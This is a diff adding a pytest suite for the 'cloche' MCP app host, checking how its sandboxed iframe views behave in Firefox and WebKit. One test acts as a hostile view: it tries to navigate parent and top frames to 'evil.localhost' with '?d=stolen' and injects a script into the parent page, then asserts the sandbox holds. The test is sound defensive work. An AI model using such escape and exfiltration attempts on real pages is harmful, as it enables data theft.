@@ -1,0 +1,110 @@
+"""What other engines do otherwise than Chromium, in Firefox and WebKit: `make test-engines`, not `make test`."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+import pytest
+
+from cloche import Server, View
+from cloche.host import Host, Policy
+from tests.engines.conftest import Browser, Page
+from tests.page.product import Product
+
+LONG = """<!doctype html><html><body>
+<p><a id="link" href="#there">down</a> <a id="top" href="#">up</a></p>
+<div style="height:3000px"></div><p id="there">x</p>
+<script>
+window.token = "first";
+window.hashes = 0;
+addEventListener("hashchange", () => hashes++);
+let last = 0;
+const ask = (method, params) => parent.postMessage({ jsonrpc: "2.0", id: ++last, method, params }, "*");
+addEventListener("message", ({ data }) => { if (data.id) document.body.dataset.answered = data.id; });
+ask("ui/initialize", { protocolVersion: "2026-01-26", appInfo: { name: "x", version: "1" }, appCapabilities: {} });
+</script>"""
+"""A view that is taller than its frame, with a table of contents."""
+
+INNER = (0, 0)
+STATE = "() => document.querySelector('mcp-app').state"
+ERROR = "() => document.querySelector('mcp-app').error?.code ?? ''"
+
+
+@pytest.fixture(scope="package")
+def product() -> Iterator[Product]:
+    server = Server("shown")
+    server.register_tool(lambda: "x", name="long", view=View(LONG, script=False))
+    server.register_tool(lambda: "x", name="camera", view=View(LONG, script=False, permissions=["camera"]))
+    host = Host({"shown": server}, secret="a secret for the tests of engines", policy=Policy(permission="allow"))
+    with Product(host) as running:
+        yield running
+
+
+@pytest.fixture
+def shown(product: Product, browser: Browser) -> Page:
+    """A page with the long view on it."""
+    page = browser.open(product.page(product.embed("shown.long", {})))
+    page.until(f"() => ({STATE})() === 'ready'")
+    page.until("() => document.body.dataset.answered === '1'", frame=INNER)
+    return page
+
+
+def answers(page: Page) -> None:
+    """The view still speaks with the host, and is the page that it was."""
+    page.run("() => { delete document.body.dataset.answered; ask('ping', {}); }", frame=INNER)
+    page.until("() => document.body.dataset.answered", frame=INNER)
+    assert page.run("() => token", frame=INNER) == "first"
+    assert page.run(STATE) == "ready"
+
+
+def test_E1_a_link_to_a_fragment_scrolls_and_the_view_lives_on(shown: Page) -> None:
+    shown.run("() => link.click()", frame=INNER)
+    shown.until("() => scrollY > 1000 && hashes === 1", frame=INNER)
+    answers(shown)
+    shown.run("() => document.getElementById('top').click()", frame=INNER)
+    shown.until("() => scrollY === 0", frame=INNER)
+    answers(shown)
+    shown.run("() => { location.hash = 'there'; }", frame=INNER)
+    shown.until("() => scrollY > 1000", frame=INNER)
+    answers(shown)
+
+
+LEAVING = {
+    "reload": "location.reload()",
+    "document-open": "document.open(); document.write('<p>new</p>'); document.close()",
+    "fragment, then document-open": "location.hash = 'there'; setTimeout(() => { document.open(); document.close(); })",
+}
+
+
+@pytest.mark.parametrize("how", LEAVING.values(), ids=LEAVING)
+def test_E1_a_view_that_becomes_another_page_is_removed(shown: Page, how: str) -> None:
+    shown.run(f"() => {{ setTimeout(() => {{ {how} }}); }}", frame=INNER)
+    assert shown.until(ERROR) == "navigated"
+
+
+def test_E2_E8_the_self_test_says_what_this_browser_can(product: Product, browser: Browser) -> None:
+    page = browser.open(f"http://localhost:{product.port}/cloche/self-test")
+    page.until("() => !document.getElementById('copy').disabled")
+    found: dict[str, str] = page.run(
+        "() => Object.fromEntries([...document.querySelectorAll('#checks li')].map((one) => "
+        "[one.dataset.check, one.dataset.state]))"
+    )
+    # Neither knows Connection-Allowlist yet: when one does, this says so, and the documents have to change.
+    assert found == {**dict.fromkeys(("origin", "loads", "opaque", "proxy", "network", "socket"), "ok"), "rtc": "note"}
+
+
+def test_E3_a_view_with_a_permission_is_shown_in_a_page_that_keeps_its_proxy(
+    product: Product, browser: Browser
+) -> None:
+    page = browser.open(product.page(product.embed("shown.camera", {})))
+    page.until(f"() => ({STATE})() === 'ready'")
+    inside = (0, 0, 0)
+    assert re.match(r"http://shown-\w+\.localhost:", page.until("() => self.origin", frame=inside))
+    for target in ("parent", "parent.parent", "top"):
+        away = f"{target}.location = 'http://evil.localhost/?d=stolen'"
+        page.run(f"() => {{ try {{ {away} }} catch {{}} }}", frame=inside)
+        code = "const code = parent.document.createElement('script'); parent.document.body.append(code);"
+        page.run(f"(away) => {{ {code} code.append(away); }}", f"try {{ {away} }} catch {{}}", frame=inside)
+    assert page.until("() => parent.document.title", frame=inside) == "Sandbox"
+    assert page.run(STATE) == "ready"
